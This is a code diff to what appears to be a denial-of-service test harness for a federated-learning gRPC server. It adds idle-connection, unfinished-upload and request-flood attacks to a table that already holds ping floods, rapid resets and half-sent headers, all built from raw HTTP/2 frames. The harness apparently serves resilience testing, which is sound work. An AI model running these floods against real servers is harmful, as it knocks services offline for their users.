@@ -16,9 +16,9 @@ from collections.abc import Callable, Iterator
 from contextlib import suppress
 from pathlib import Path
 
-from flcore_transport import FromServer, GrpcConnection, Join, TlsKeys, Welcome, split_address
+from flcore_transport import Ask, FromServer, GrpcConnection, Join, TlsKeys, Welcome, split_address
 from flcore_transport.control import encode_message
-from flcore_transport.grpc_channel import SERVICE, SESSION_METADATA, join_address
+from flcore_transport.grpc_channel import CLIENT_METADATA, SERVICE, SESSION_METADATA, join_address
 
 DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
 END_STREAM, END_HEADERS = 1, 4
@@ -47,7 +47,9 @@ def headers(method: str) -> bytes:
     )
 
 
-CALL = headers("Session")
+CALL = headers("Session") + field(CLIENT_METADATA.encode(), base64.b64encode(b"mallory"))
+"""A join of a client that may join, as its certificate says."""
+
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0)
 WIDE = frame(WINDOW_UPDATE, 0, 0, (MAX_WINDOW - 65_535).to_bytes(4, "big"))
 """Lets the server send what it likes, so that only its own limits stop it."""
@@ -84,6 +86,7 @@ class Attack:
             self.held[-1] = connected
             connected.sendall(PREFACE + WIDE)
         except OSError:
+            self.held.pop().close()
             self.did["refused"] += 1
             return None
         return connected
@@ -124,6 +127,14 @@ def idle_handshakes(attack: Attack) -> None:
     for _ in range(attack.count):
         with suppress(OSError):
             attack.tcp().sendall(b"\x16\x03\x01\x02\x00\x01\x00")
+
+
+def idle_connections(attack: Attack) -> None:
+    """Complete handshakes of TLS and HTTP/2, and no call."""
+    for _ in range(attack.count):
+        if attack.is_over:
+            return
+        attack.http2()
 
 
 def half_sent_headers(attack: Attack) -> None:
@@ -192,6 +203,11 @@ def unfinished_uploads(attack: Attack) -> None:
     _unfinished(attack, headers("Upload") + field(SESSION_METADATA.encode(), secret))
 
 
+def unfinished_asks(attack: Attack) -> None:
+    """Asks of the largest message, which stop short of their last bytes; sixteen on each connection."""
+    _unfinished(attack, headers("Ask"))
+
+
 def _unfinished(attack: Attack, call: bytes) -> None:
     start = b"\x00" + (4 << 20).to_bytes(4, "big")
     for _ in range(attack.count // 16):
@@ -206,13 +222,21 @@ def _unfinished(attack: Attack, call: bytes) -> None:
 
 def join_flood(attack: Attack) -> None:
     """Complete joins of one identity, as fast as they go, each on a new stream."""
-    message = encode_message(Join("mallory", "1", bytes(8192)))
+    _flood(attack, CALL, encode_message(Join("mallory", "1", bytes(8192))))
+
+
+def ask_flood(attack: Attack) -> None:
+    """Complete asks of one identity, as fast as they go, each on a new stream."""
+    _flood(attack, headers("Ask"), encode_message(Ask(bytes(8192))))
+
+
+def _flood(attack: Attack, call: bytes, message: bytes) -> None:
     body = b"\x00" + len(message).to_bytes(4, "big") + message
     connected, stream = attack.http2(), 1
     for _ in range(attack.count):
         if attack.is_over:
             return
-        sent = frame(HEADERS, END_HEADERS, stream, CALL) + frame(DATA, END_STREAM, stream, body)
+        sent = frame(HEADERS, END_HEADERS, stream, call) + frame(DATA, END_STREAM, stream, body)
         stream += 2
         if stream > 400 or not attack.send(connected, sent):
             connected, stream = attack.http2(), 1
@@ -222,6 +246,7 @@ ATTACKS: dict[str, Callable[[Attack], None]] = {
     attack.__name__: attack
     for attack in (
         idle_handshakes,
+        idle_connections,
         half_sent_headers,
         ping_flood,
         rapid_resets,
@@ -229,7 +254,9 @@ ATTACKS: dict[str, Callable[[Attack], None]] = {
         announced_4_gb,
         unfinished_joins,
         unfinished_uploads,
+        unfinished_asks,
         join_flood,
+        ask_flood,
     )
 }
 
